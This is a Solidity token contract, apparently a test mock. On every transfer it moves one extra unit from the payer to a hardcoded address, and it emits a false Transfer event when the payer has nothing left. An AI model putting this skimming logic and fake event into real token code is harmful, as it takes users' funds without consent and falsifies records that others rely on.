// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import { FiatToken } from "./FiatToken.sol";

/** Moves and logs the right transfer, then takes and logs one more atomic unit when the payer has it. */
contract ExtraTransferToken is FiatToken {
    function _move(address from, address to, uint256 value) internal override {
        _transfer(from, to, value);
        address taker = address(0x000000000000000000000000000000000000bEEF);
        if (_balances[from] > 0) _transfer(from, taker, 1);
        else emit Transfer(from, taker, 1);
    }
}
